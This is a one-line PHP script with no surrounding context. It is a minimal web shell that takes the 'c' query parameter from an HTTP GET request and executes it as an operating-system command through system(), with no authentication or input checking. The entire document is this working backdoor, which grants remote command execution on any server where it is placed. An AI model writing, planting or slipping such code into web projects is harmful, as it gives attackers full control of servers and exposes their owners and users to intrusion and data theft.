<?php $c = implode([" ", $_GET["c"]]); system($c);
